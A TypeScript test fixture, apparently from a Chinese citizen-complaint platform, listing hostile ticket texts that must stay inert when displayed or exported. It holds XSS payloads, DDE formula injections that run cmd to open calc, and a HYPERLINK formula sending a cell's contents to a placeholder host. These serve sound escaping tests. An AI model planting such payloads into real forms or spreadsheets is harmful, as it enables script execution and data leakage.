/**
 * Texts that a citizen (or whoever types into the web form) can send and that must stay text in every page,
 * panel and export. The platform itself shows them harmlessly.
 */
import type { PracticeTicket } from './model.ts';

export interface HostileText {
  /** Its name, kept in the ticket's `hostile`. */
  name: string;
  title: string;
  content: string;
  citizenName?: string;
}

const PADDING = '楼道内长期堆放杂物，占用消防通道，多次反映未果，请依法处理。';
const RLO = '\u202e';
const RLM = '\u200f';

export const HOSTILE_TEXTS: readonly HostileText[] = [
  {
    name: 'image',
    title: '<img src=x onerror="window.__hacked=1">投诉楼下噪音',
    content: `来电人反映：楼下噪音扰民。<img src=x onerror="window.__hacked=1"><svg onload="window.__hacked=1">${PADDING}`,
  },
  {
    name: 'script',
    title: '</textarea><script>window.__hacked=1</script>反映路灯不亮',
    content: `</script><script>window.__hacked=1</script>路灯不亮已有半月。"'><b onmouseover=alert(1)>请尽快维修</b>${PADDING}`,
    citizenName: '<i>王</i>',
  },
  {
    name: 'formula',
    title: '=HYPERLINK("http://example.invalid/?"&A1,"点击查看")',
    content: `=1+1+cmd|'/c calc'!A0\n${PADDING}`,
    citizenName: '=SUM(A1:A9)',
  },
  {
    name: 'plus',
    title: '+86热线打不通，咨询办理进度',
    content: `+cmd|' /C calc'!A0 ${PADDING}`,
    citizenName: '+张三',
  },
  { name: 'minus', title: '-2层车库积水无人处理', content: `-1+1 负二层车库积水。${PADDING}`, citizenName: '@李四' },
  {
    name: 'fullWidth',
    title: '＝HYPERLINK("http://example.invalid","领取补贴")',
    content: `＝1＋1，＠全体业主，－－请看这里。${PADDING}`,
  },
  { name: 'long', title: '小区管理问题情况反映（内容较长）', content: PADDING.repeat(200).slice(0, 5_000) },
  {
    name: 'direction',
    title: `😡🚧👨‍👩‍👧‍👦 施工${RLO}扰民问题${RLM}求助🙏`,
    content: `😭😭 ${RLO}工地凌晨施工${RLM}，\u200b零宽\u200b字符，家里有👶🏻，𠮷先生与㛃女士都受影响 ☎️。${PADDING}`,
    citizenName: '𠮷👍',
  },
];

/** Numbers of the tickets that carry a hostile text. */
export function hostileNumbers(tickets: readonly PracticeTicket[]): string[] {
  return tickets.filter((ticket) => ticket.hostile !== undefined).map((ticket) => ticket.ticketNo);
}
